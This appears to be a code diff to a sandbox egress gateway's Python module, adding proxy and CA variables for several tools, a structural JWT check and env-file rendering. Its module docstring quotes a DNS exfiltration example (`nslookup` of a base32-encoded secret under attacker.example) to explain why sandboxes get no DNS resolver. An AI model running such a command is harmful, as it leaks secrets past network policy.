@@ -3,6 +3,14 @@
 The `*_API_KEY` variables hold the gateway token, never a key: SDKs put it in their
 usual header and the gateway swaps it for the real key on the way out.
 
+Beyond the proxy and CA variables every HTTP stack reads, some tools need their own:
+gRPC ignores `SSL_CERT_FILE` (`GRPC_DEFAULT_SSL_ROOTS_FILE_PATH`), an npmrc `cafile`
+overrides `NODE_EXTRA_CA_CERTS` (`NPM_CONFIG_CAFILE`), git sends no proxy credentials
+on its first CONNECT unless told to (`GIT_HTTP_PROXY_AUTHMETHOD=basic`), and Node's
+`fetch` ignores proxy variables (Node 24 and recent 22.x honour `NODE_USE_ENV_PROXY=1`), so a
+preload shipped with this package (`NODE_OPTIONS=--import=…`) installs a proxying
+dispatcher. aiohttp reads the proxy variables only with `trust_env=True`.
+
 A sandbox that uses the proxy needs no DNS resolver: the gateway resolves every name
 (after the policy allowed it). Giving it one opens a side channel around the policy
 (data in query names, `nslookup $(base32 < secret).attacker.example`), so `dns_note`
@@ -11,24 +19,46 @@ tells the operator how to run without one.
 
 from __future__ import annotations
 
+import base64
+import binascii
 import ipaddress
+import json
+import re
+import time
+from importlib import resources
+from typing import Any
 from urllib.parse import quote, urlsplit, urlunsplit
 
-from gateway.tokens import unverified_claims
+import yaml
+
+from gateway.tokens import AUDIENCE, unverified_claims
+
+DEFAULT_CA_BUNDLE = "/etc/sandbox-gateway/ca-bundle.pem"
+DEFAULT_NODE_PRELOAD = "/etc/sandbox-gateway/node-proxy-preload.mjs"
+NODE_PRELOAD_NAME = "node-proxy-preload.mjs"
+FORMATS = ("dotenv", "shell", "k8s")
 
 CA_VARIABLES = (
-    "SSL_CERT_FILE",          # Python ssl, OpenSSL-based tools
+    "SSL_CERT_FILE",          # Python ssl, OpenSSL-based tools, httpx, aiohttp, uv
     "REQUESTS_CA_BUNDLE",     # requests
     "CURL_CA_BUNDLE",         # curl
     "NODE_EXTRA_CA_CERTS",    # Node.js
+    "NPM_CONFIG_CAFILE",      # npm (an npmrc cafile would replace NODE_EXTRA_CA_CERTS)
     "GIT_SSL_CAINFO",         # git
     "AWS_CA_BUNDLE",          # AWS SDKs and CLI
     "PIP_CERT",               # pip
+    "GRPC_DEFAULT_SSL_ROOTS_FILE_PATH",  # gRPC (ignores SSL_CERT_FILE)
 )
 API_KEY_VARIABLES = (
     "OPENAI_API_KEY", "ANTHROPIC_API_KEY", "AZURE_OPENAI_API_KEY", "GEMINI_API_KEY",
     "GOOGLE_API_KEY", "MISTRAL_API_KEY", "GROQ_API_KEY", "OPENROUTER_API_KEY", "HF_TOKEN",
 )
+NO_PROXY = "localhost,127.0.0.1,::1"
+_JWT = re.compile(r"[A-Za-z0-9_-]+\.[A-Za-z0-9_-]+\.[A-Za-z0-9_-]+")
+
+
+class InvalidToken(ValueError):
+    """The token given to `env` is not a usable gateway token."""
 
 
 def proxy_url(proxy: str, sandbox: str, token: str) -> str:
@@ -64,14 +94,87 @@ def dns_note(proxy: str) -> list[str]:
     return lines
 
 
-def sandbox_env(token: str, proxy: str, sandbox: str | None = None,
-                ca_bundle: str = "/etc/sandbox-gateway/ca-bundle.pem") -> list[str]:
-    """`KEY=value` lines for a sandbox (an env file for `docker run --env-file`)."""
+def _b64json(part: str, what: str) -> dict[str, Any]:
+    try:
+        value = json.loads(base64.urlsafe_b64decode(part + "=" * (-len(part) % 4)))
+    except (ValueError, binascii.Error):
+        raise InvalidToken(f"its {what} is not base64url-encoded JSON") from None
+    if not isinstance(value, dict):
+        raise InvalidToken(f"its {what} is not a JSON object")
+    return value
+
+
+def check_token(token: str, now: float | None = None) -> dict[str, Any]:
+    """The claims of a structurally valid, unexpired gateway JWT (signature NOT checked:
+    see `TokenService.verify` for that); raises `InvalidToken` saying what is wrong."""
+    if not _JWT.fullmatch(token):
+        raise InvalidToken("it is not a JWT (three base64url parts separated by dots)")
+    parts = token.split(".")
+    header = _b64json(parts[0], "header")
+    claims = _b64json(parts[1], "payload")
+    if header.get("alg") != "EdDSA" or not isinstance(header.get("kid"), str):
+        raise InvalidToken(f"its header is not a gateway token's (alg {header.get('alg')!r}, "
+                           "expected EdDSA with a kid)")
+    missing = [c for c in ("sub", "pol", "exp", "jti") if c not in claims]
+    if missing:
+        raise InvalidToken(f"it lacks the claims {', '.join(missing)}")
+    if claims.get("aud") != AUDIENCE:
+        raise InvalidToken(f"its audience is {claims.get('aud')!r}, not {AUDIENCE!r}")
+    exp = claims["exp"]
+    if not isinstance(exp, int | float) or isinstance(exp, bool):
+        raise InvalidToken("its exp claim is not a number")
+    now = time.time() if now is None else now
+    if exp <= now:
+        when = time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(exp))
+        raise InvalidToken(f"it expired at {when}")
+    return claims
+
+
+def sandbox_variables(token: str, proxy: str, sandbox: str | None = None,
+                      ca_bundle: str = DEFAULT_CA_BUNDLE,
+                      node_preload: str | None = DEFAULT_NODE_PRELOAD) -> list[tuple[str, str]]:
+    """The sandbox's variables, in output order. `node_preload`: the preload's path
+    inside the sandbox (None: no NODE_OPTIONS)."""
     sandbox = sandbox or str(unverified_claims(token).get("sub") or "sandbox")
     url = proxy_url(proxy, sandbox, token)
-    lines = [f"HTTPS_PROXY={url}", f"HTTP_PROXY={url}", f"https_proxy={url}",
-             f"http_proxy={url}", "NO_PROXY=localhost,127.0.0.1,::1",
-             "no_proxy=localhost,127.0.0.1,::1"]
-    lines += [f"{var}={ca_bundle}" for var in CA_VARIABLES]
-    lines += [f"{var}={token}" for var in API_KEY_VARIABLES]
-    return lines
+    out = [("HTTPS_PROXY", url), ("HTTP_PROXY", url), ("https_proxy", url),
+           ("http_proxy", url), ("NO_PROXY", NO_PROXY), ("no_proxy", NO_PROXY)]
+    out += [(var, ca_bundle) for var in CA_VARIABLES]
+    out += [("GIT_HTTP_PROXY_AUTHMETHOD", "basic"), ("NODE_USE_ENV_PROXY", "1")]
+    if node_preload:
+        quoted = f'"{node_preload}"' if any(c in node_preload for c in ' "\\') else node_preload
+        out.append(("NODE_OPTIONS", f"--import={quoted}"))
+    out += [(var, token) for var in API_KEY_VARIABLES]
+    return out
+
+
+def sandbox_env(token: str, proxy: str, sandbox: str | None = None,
+                ca_bundle: str = DEFAULT_CA_BUNDLE,
+                node_preload: str | None = DEFAULT_NODE_PRELOAD) -> list[str]:
+    """`KEY=value` lines for a sandbox (an env file for `docker run --env-file`)."""
+    return [f"{k}={v}" for k, v in sandbox_variables(token, proxy, sandbox, ca_bundle,
+                                                      node_preload)]
+
+
+def _shell_quote(value: str) -> str:
+    return "'" + value.replace("'", "'\\''") + "'"
+
+
+def render(variables: list[tuple[str, str]], fmt: str) -> str:
+    """The variables as a dotenv file (`K=v`, what `docker --env-file` reads literally),
+    shell (`export K='v'`) or a Kubernetes container `env:` list."""
+    if fmt == "dotenv":
+        if any("\n" in v for _, v in variables):
+            raise ValueError("a value with a newline cannot be written as dotenv")
+        return "".join(f"{k}={v}\n" for k, v in variables)
+    if fmt == "shell":
+        return "".join(f"export {k}={_shell_quote(v)}\n" for k, v in variables)
+    if fmt == "k8s":
+        doc = {"env": [{"name": k, "value": v} for k, v in variables]}
+        return yaml.safe_dump(doc, sort_keys=False, width=1 << 20)
+    raise ValueError(f"unknown format {fmt!r}; one of {', '.join(FORMATS)}")
+
+
+def node_preload_source() -> str:
+    """The Node preload shipped with this package."""
+    return (resources.files("gateway") / "sandbox" / NODE_PRELOAD_NAME).read_text("utf-8")
